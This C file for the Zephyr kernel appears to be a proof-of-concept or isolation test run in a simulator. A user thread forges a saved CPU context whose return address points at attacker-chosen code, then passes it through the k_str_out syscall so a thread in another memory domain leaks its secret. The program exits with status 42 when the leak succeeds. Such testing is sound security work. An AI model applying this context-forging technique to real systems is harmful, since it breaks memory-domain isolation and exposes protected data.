/* SPDX-License-Identifier: Apache-2.0 */

/*
 * A thief who forges an answer of the kernel and prints it. Where the console were the pipe that
 * another domain's process reads its answers from, that process would go on in code of the thief's
 * choice, and hand out what only it can read.
 */

#include <string.h>

#include <zephyr/app_memory/app_memdomain.h>
#include <zephyr/kernel.h>
#include <zephyr/sys/app_args.h>
#include <zephyr/syscall_list.h>

#include "domain/domain.h"

#include "ways.h"

#define SECRET      4711
#define STATUS_LEAK 42

/* A context at rest, as sim/host/x86_64.c lays it out. */
#define CONTEXT_WORDS 8
#define RESET_FP      0x037f00001f80ull

K_APPMEM_PARTITION_DEFINE(victim_partition);
K_APP_DMEM(victim_partition) static volatile int secret = SECRET;
K_APPMEM_PARTITION_DEFINE(open_partition);
K_APP_BMEM(open_partition) static volatile int leak;
K_APP_BMEM(open_partition) static uint64_t context[CONTEXT_WORDS];

static struct k_mem_domain victim_domain;
static struct k_mem_domain thief_domain;
static K_THREAD_STACK_DEFINE(victim_stack, 2048);
static K_THREAD_STACK_DEFINE(thief_stack, 2048);
static struct k_thread victim;
static struct k_thread thief;

static void wait_for_answer(void *p1, void *p2, void *p3)
{
	for (;;) {
		k_sleep(K_MSEC(50));
	}
}

static void hand_out(void)
{
	leak = secret;
	for (;;) {
		__asm__ volatile("pause");
	}
}

static void print_answer(void *p1, void *p2, void *p3)
{
	struct sim_down down = {.sp = (uintptr_t)context};

	context[0] = RESET_FP;
	context[CONTEXT_WORDS - 1] = (uintptr_t)hand_out;
	arch_syscall_invoke2((uintptr_t)&down, sizeof(down), K_SYSCALL_K_STR_OUT);
	k_sleep(K_MSEC(20));
}

static void start(struct k_thread *thread, k_thread_stack_t *stack, struct k_mem_domain *domain,
		  k_thread_entry_t entry, int priority)
{
	k_thread_create(thread, stack, 2048, entry, NULL, NULL, NULL, priority, K_USER, K_FOREVER);
	k_mem_domain_add_thread(domain, thread);
	k_thread_start(thread);
}

FUNC_NORETURN void steal(void)
{
	struct k_mem_partition *of_victim[] = {&victim_partition, &open_partition};
	struct k_mem_partition *of_thief[] = {&open_partition};

	k_mem_domain_init(&victim_domain, ARRAY_SIZE(of_victim), of_victim);
	k_mem_domain_init(&thief_domain, ARRAY_SIZE(of_thief), of_thief);
	start(&victim, victim_stack, &victim_domain, wait_for_answer, 4);
	k_sleep(K_MSEC(10));
	start(&thief, thief_stack, &thief_domain, print_answer, 5);
	k_sleep(K_MSEC(30));
	sys_exit(leak == SECRET ? STATUS_LEAK : 0);
}
